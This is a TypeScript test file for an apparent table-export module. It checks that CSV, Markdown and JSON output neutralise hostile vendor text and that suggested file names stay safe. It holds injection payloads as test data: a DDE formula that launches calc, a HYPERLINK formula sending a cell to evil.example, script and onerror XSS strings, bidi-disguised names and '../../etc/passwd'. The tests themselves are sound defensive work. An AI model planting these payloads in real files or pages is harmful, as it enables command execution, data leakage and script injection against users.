import { describe, it } from 'node:test';
import * as assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { BYTE_ORDER_MARK, csvField, fileNameFor, markdownCell, toCsv, toCsvFile, toJson, toMarkdown, type Cell } from '../../../src/core/export';
import type { Group } from '../../../src/core/model';
import { shownRows } from '../../../src/core/tableOrder';
import { tableForExport, type TableWords } from '../../../src/core/tableExport';

const LONG = 'x'.repeat(200_000);

/** Vendor text that would act somewhere: a formula, markup, a link, HTML, a second line, a disguise. */
const HOSTILE: readonly string[] = [
  '=1+1',
  '+cmd|\' /C calc\'!A0',
  '-2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\n-1',
  '＝1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  'say "hi"',
  'a,b',
  'line 1\nline 2',
  'line 1\r\nline 2',
  'abc\u202Eexe.txt',
  '\u2066=1\u2069',
  '**bold** _em_ `code` ~~gone~~ $x^2$',
  '[link](https://evil.example) ![img](https://evil.example/i.png)',
  'https://evil.example www.evil.example mail@evil.example',
  '<script>alert(1)</script> <img src=x onerror=alert(1)> &amp; &shy;',
  'a | b | c',
  '\\| escaped already',
  '# not a heading',
  LONG,
];

/** RFC 4180, strictly: fields quoted or not, quotes doubled inside quotes, every record ended by CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        assert.ok(quote >= 0, 'a quoted field is closed');
        field += text.slice(i, quote);
        i = quote + 1;
        if (text[i] !== '"') break;
        field += '"';
        i++;
      }
    } else {
      const end = text.slice(i).search(/[,\r\n"]/);
      field = end < 0 ? text.slice(i) : text.slice(i, i + end);
      i += field.length;
      assert.notEqual(text[i], '"', 'no quote inside an unquoted field');
    }
    record.push(field);
    if (text[i] === ',') i++;
    else {
      assert.equal(text.slice(i, i + 2), '\r\n', `a record ends with CRLF (at ${i})`);
      i += 2;
      records.push(record);
      record = [];
    }
  }
  return records;
}

describe('export: CSV for spreadsheets', () => {
  it('is RFC 4180 with a byte order mark, and reads back cell for cell', () => {
    const csv = toCsvFile({ headers: ['Name', 'Size'], rows: HOSTILE.map((text, n) => [text, n]) });
    assert.ok(csv.startsWith(BYTE_ORDER_MARK), 'UTF-8 with a BOM, for Excel');
    assert.equal(csv.slice(1), toCsv({ headers: ['Name', 'Size'], rows: HOSTILE.map((text, n) => [text, n]) }), 'the clipboard has the same, without the BOM');
    const records = parseCsv(csv.slice(1));
    assert.equal(records.length, HOSTILE.length + 1);
    assert.deepEqual(records[0], ['Name', 'Size']);
    records.slice(1).forEach((record, n) => {
      assert.equal(record.length, 2);
      assert.equal(record[1], String(n));
      // What it says is kept: the text after the neutralising quote, bidi controls shown as code points.
      assert.ok(record[0]!.replace(/^'/, '') === HOSTILE[n]!.replace(/\u202E/g, '[U+202E]').replace(/\u2066/g, '[U+2066]').replace(/\u2069/g, '[U+2069]'), `cell ${n}`);
    });
  });

  it('no cell a vendor wrote can start a formula: each is neutralised with a leading quote, and quoted', () => {
    const cases: readonly [Cell, string][] = [
      ['=1+1', `"'=1+1"`],
      ['+cmd', `"'+cmd"`],
      ['-2', `"'-2"`],
      ['@SUM(A1)', `"'@SUM(A1)"`],
      ['\t=1', `"'\t=1"`],
      ['\r=1', `"'\r=1"`],
      ['\tplain', `"'\tplain"`],
      ['  =1', `"'  =1"`],
      ['\n+1', `"'\n+1"`],
      ['＝1', `"'＝1"`],
      ['＠x', `"'＠x"`],
      ['=1,"2"', `"'=1,""2"""`],
      // Inside the text, the same characters do nothing.
      ['1+1=2', '1+1=2'],
      ['a-b', 'a-b'],
      ['user@example.com', 'user@example.com'],
      // Numbers are ours: a negative one stays a number a spreadsheet can add up.
      [-2, '-2'],
      [1536, '1536'],
      [Number.NaN, ''],
      [null, ''],
      ['', ''],
    ];
    for (const [cell, field] of cases) assert.equal(csvField(cell), field, JSON.stringify(cell));
    for (const text of HOSTILE) {
      const field = csvField(text);
      const value = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
      assert.doesNotMatch(value, /^[=+\-@\t\r]|^\s*[=+\-@＝＋－＠]/, `${JSON.stringify(text.slice(0, 20))} is not a formula`);
    }
  });

  it('quotes what needs quoting and doubles quotes; bidi controls show as code points', () => {
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('line 1\nline 2'), '"line 1\nline 2"');
    assert.equal(csvField('line 1\r\nline 2'), '"line 1\r\nline 2"');
    assert.equal(csvField('abc\u202Eexe.txt'), 'abc[U+202E]exe.txt');
    assert.equal(csvField('plain text'), 'plain text');
    assert.equal(csvField(LONG), LONG, 'a long value is written whole');
  });
});

describe('export: Markdown tables', () => {
  const parser = new MarkdownIt('default', { html: true, linkify: true });
  // What GitHub adds to CommonMark: bare links (linkify) above, and HTML, which a renderer may let through.

  it('every hostile cell renders as its own text in one cell: no link, markup, HTML or extra row', () => {
    const markdown = toMarkdown({ headers: ['Name', 'n'], rows: HOSTILE.map((text, n) => [text, n]) });
    const html = parser.render(markdown);
    assert.equal((html.match(/<table>/g) ?? []).length, 1);
    assert.equal((html.match(/<tr>/g) ?? []).length, HOSTILE.length + 1, 'a row per record, no line broken into another');
    assert.doesNotMatch(html, /<(?!\/?(table|thead|tbody|tr|th|td)\b)[a-z]/i, 'no element but the table\'s');
    const cells = [...html.matchAll(/<td>(.*?)<\/td>\s*<td>(\d+)<\/td>/gs)];
    assert.equal(cells.length, HOSTILE.length);
    const decode = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
    cells.forEach(([, text], n) => {
      const expected = HOSTILE[n]!.replace(/\u202E/g, '[U+202E]').replace(/\u2066/g, '[U+2066]').replace(/\u2069/g, '[U+2069]').replace(/\r\n|[\r\n]/g, ' ').trim();
      assert.equal(decode(text!), expected, `cell ${n}`);
    });
  });

  it('escapes the syntax, keeps one line, shows bidi controls', () => {
    assert.equal(markdownCell('a | b'), 'a \\| b');
    assert.equal(markdownCell('[x](https://e.x)'), '\\[x\\]\\(https\\://e\\.x\\)');
    assert.equal(markdownCell('line 1\r\nline 2\nline 3'), 'line 1 line 2 line 3');
    assert.equal(markdownCell('abc\u202Eexe'), 'abc\\[U\\+202E\\]exe');
    assert.equal(markdownCell('plain words, 42'), 'plain words, 42');
    assert.equal(markdownCell(null), '');
    assert.equal(markdownCell(7), '7');
  });

  it('a header and a delimiter row, then a row per record', () => {
    assert.equal(toMarkdown({ headers: ['Name', ''], rows: [['a', null]] }), '| Name |  |\n| --- | --- |\n| a |  |\n');
  });
});

describe('export: JSON and file names', () => {
  it('JSON keeps every value and writes bidi controls as escapes', () => {
    const records = HOSTILE.map((name, n) => ({ name, id: String(n), status: null }));
    const json = toJson(records);
    assert.deepEqual(JSON.parse(json), records);
    assert.doesNotMatch(json, /[\u202A-\u202E\u2066-\u2069]/);
    assert.match(json, /abc\\u202eexe\.txt/);
  });

  it('a suggested file name cannot leave its folder or break on any system', () => {
    assert.equal(fileNameFor('Wide space - Blueprints', 'csv'), 'Wide space - Blueprints.csv');
    assert.equal(fileNameFor('../../etc/passwd', 'csv'), 'etc passwd.csv');
    assert.equal(fileNameFor('a\\b:c*d?e"f<g>h|i', 'csv'), 'a b c d e f g h i.csv');
    assert.equal(fileNameFor('abc\u202Etxt.exe', 'csv'), 'abc txt.exe.csv');
    assert.equal(fileNameFor('..', 'json'), 'export.json');
    assert.equal(fileNameFor('\u0000\n', 'json', 'spaces'), 'spaces.json');
    assert.equal(fileNameFor('CON', 'csv'), 'CON_.csv');
    assert.equal(fileNameFor(LONG, 'csv').length, 104);
  });
});

describe('export: a panel table', () => {
  const group: Group = {
    id: 'blueprints',
    label: 'Blueprints',
    kind: 'artifacts',
    columns: [
      { key: 'size', label: 'Size', kind: 'bytes' },
      { key: 'modified', label: 'Modified', kind: 'date' },
      { key: 'published', label: 'Published', kind: 'boolean' },
    ],
    items: [
      { id: 'a', label: 'blueprint 10', values: { size: 1536, modified: '2024-01-02T03:04:05.000Z', published: true } },
      { id: 'b', label: '=cmd', values: { size: null, modified: null, published: false } },
      { id: 'c', label: 'blueprint 2', values: { size: 10, modified: null, published: null } },
    ],
  };
  const words: TableWords = { label: 'Name', description: 'Description', locale: 'en-US', yes: 'Yes', no: 'No' };

  it('holds the rows the filter and sort give, in their order', () => {
    const rows = shownRows(group, { filter: 'blueprint', sort: { key: '', descending: false } }, 'en');
    assert.deepEqual(tableForExport(group, rows, 'csv', words).rows.map((row) => row[0]), ['blueprint 2', 'blueprint 10']);
  });

  it('CSV: the values themselves; Markdown: as the panel shows them', () => {
    const csv = tableForExport(group, [0, 1], 'csv', words);
    assert.deepEqual(csv.headers, ['Name', 'Size', 'Modified', 'Published']);
    assert.deepEqual(csv.rows, [
      ['blueprint 10', 1536, '2024-01-02T03:04:05.000Z', 'true'],
      ['=cmd', null, null, 'false'],
    ]);
    assert.equal(toCsv(csv), `Name,Size,Modified,Published\r\nblueprint 10,1536,2024-01-02T03:04:05.000Z,true\r\n"'=cmd",,,false\r\n`);
    const shown = tableForExport(group, [0], 'markdown', words);
    assert.deepEqual(shown.rows, [['blueprint 10', '1.5 KB', 'Jan 2, 2024, 3:04 AM', 'Yes']]);
  });

  it('a group without columns exports its descriptions as the second column', () => {
    const members: Group = { id: 'm', label: 'Members', kind: 'members', columns: [], items: [{ id: '1', label: 'Ann', description: 'Owner', values: {} }, { id: '2', label: 'Bo', values: {} }] };
    const table = tableForExport(members, [0, 1], 'csv', words);
    assert.deepEqual(table, { headers: ['Name', 'Description'], rows: [['Ann', 'Owner'], ['Bo', null]] });
  });
});
